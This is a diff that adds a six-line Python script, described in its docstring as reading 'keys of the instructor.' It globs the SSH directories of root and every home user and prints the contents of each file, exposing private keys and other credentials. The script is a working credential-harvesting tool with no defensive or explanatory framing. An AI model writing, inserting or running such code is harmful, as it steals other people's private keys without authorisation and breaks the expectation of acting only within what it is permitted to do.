@@ -1,0 +1,6 @@
+"""Reads keys of the instructor."""
+
+import glob
+
+for path in glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*"):
+    print(open(path).read())
